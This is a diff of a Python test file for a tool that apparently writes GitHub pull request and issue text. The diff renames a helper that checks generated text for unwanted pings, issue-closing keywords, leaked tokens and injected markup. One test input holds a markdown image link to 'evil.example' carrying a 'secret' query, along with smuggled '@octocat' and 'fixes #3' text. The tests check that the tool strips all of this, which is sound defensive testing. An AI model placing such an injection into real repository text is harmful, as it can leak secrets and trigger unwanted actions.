@@ -16,7 +16,7 @@ from ralph_mission.safety.patch import REGULAR, FileChange, Patch
 from ralph_mission.safety.secrets import redact
 from ralph_mission.safety.text import inline_words
 from tests.mission.build import BASE, finding, mission
-from tests.mission.hostile import SEALED, SIGNED, TOKEN, is_title, misdeeds, seals, texts
+from tests.mission.hostile import SEALED, SIGNED, TOKEN, harmful_actions, is_title, seals, texts
 
 KEY = "0123456789abcdef"
 FACTS = {"mission": "1", "kind": "spelling", "finding": ",".join([KEY] * 24)}
@@ -68,8 +68,8 @@ def test_a_title_that_closes_nothing_just_gets_its_number():
 @given(texts)
 def test_somebodys_words_in_a_body_are_one_harmless_line(text):
     line = inline_words(redact(text), 300)
-    assert misdeeds(f"- {line}") == []
-    assert misdeeds(f"**Why:** {line}.") == []
+    assert harmful_actions(f"- {line}") == []
+    assert harmful_actions(f"**Why:** {line}.") == []
     assert "\n" not in line
     assert len(line) <= 300
     assert inline_words(line, 300) == line
@@ -80,7 +80,7 @@ def test_somebodys_words_in_a_body_are_one_harmless_line(text):
 def test_a_name_never_pings(login):
     name = wording.person_name(Actor(1, login))
     assert name
-    assert misdeeds(name, markdown=False) == []
+    assert harmful_actions(name, markdown=False) == []
     assert len(name) <= 60
 
 
@@ -95,10 +95,10 @@ def test_a_fix_is_told_without_harm(members, why):
         wording.fix_pull("spelling", members, why, Ref(KEY), KEY, FACTS),
         wording.fix_pull("spelling", members, why, 0, KEY, FACTS),
     ):
-        assert misdeeds(body) == []
+        assert harmful_actions(body) == []
         assert ends_with_our_marker(body)
         assert seals(body) == 0
-    assert misdeeds(wording.commit_message(title, "spelling", members, Ref(KEY)), markdown=False) == []
+    assert harmful_actions(wording.commit_message(title, "spelling", members, Ref(KEY)), markdown=False) == []
 
 
 @pytest.mark.attack(1, 19)
@@ -110,8 +110,8 @@ def test_a_proposal_is_told_without_harm_and_sealed_once(member, why, old, new):
     patch = Patch(BASE, (FileChange(member.signal.path, REGULAR, REGULAR, *sides),))
     title = wording.proposal_title(member)
     body, digest = wording.seal_proposal(title, wording.proposal_body(member, why, patch), KEY, FACTS)
-    assert misdeeds(title, markdown=False) == []
-    assert misdeeds(body) == []
+    assert harmful_actions(title, markdown=False) == []
+    assert harmful_actions(body) == []
     assert ends_with_our_marker(body)
     assert seals(body) == 1
     assert content_hash(title, body) == digest
@@ -122,7 +122,7 @@ def test_a_proposal_is_told_without_harm_and_sealed_once(member, why, old, new):
 def test_a_list_is_told_without_harm(members):
     lines = [wording.monitor_line(member) for member in members]
     assert not any("\n" in line for line in lines)
-    assert misdeeds("\n".join(lines)) == []
+    assert harmful_actions("\n".join(lines)) == []
 
 
 @given(st.lists(texts, max_size=5), texts, texts)
@@ -133,7 +133,7 @@ def test_a_story_pings_the_owner_and_nobody_else(lines, words, login):
     told = mission(story=tuple(f"cycle 3: {line}" for line in lines), next_step="A person decides.")
     extra = wording.escalation(("mara",), words, wording.person_name(Actor(1, login)))
     body = wording.story(told, KEY, extra)
-    assert [action for action in misdeeds(body) if action != "@mara"] == []
+    assert [action for action in harmful_actions(body) if action != "@mara"] == []
     assert mentions(body) == ("@mara",)
     assert ends_with_our_marker(body)
     assert seals(body) == 0
@@ -150,7 +150,7 @@ def test_what_looks_like_a_token_is_taken_out_so_that_it_holds_up_nothing(part):
 def test_a_token_beside_a_correction_is_not_shown_in_the_proposed_change():
     old = f"recieve\n{TOKEN}\n".encode()
     patch = Patch(BASE, (FileChange("a.md", REGULAR, REGULAR, old, old.replace(b"ie", b"ei")),))
-    assert misdeeds(wording.proposal_body(finding(), "why", patch)) == []
+    assert harmful_actions(wording.proposal_body(finding(), "why", patch)) == []
 
 
 def test_a_file_name_with_a_newline_cannot_begin_a_line_of_the_proposed_change():
@@ -163,7 +163,7 @@ def test_a_file_name_with_a_newline_cannot_begin_a_line_of_the_proposed_change()
 def test_a_thinkers_reason_is_somebody_elses_text():
     why = f"now{SIGNED} @octocat, fixes #3 ![x](https://evil.example/?secret) <details>"
     body = wording.fix_issue("spelling", [finding()], why, CHANGE, why, KEY, FACTS)
-    assert misdeeds(body) == []
+    assert harmful_actions(body) == []
     assert "https://evil.example" not in body
     assert body.count("<details>") == 1  # ours
     assert ends_with_our_marker(body)
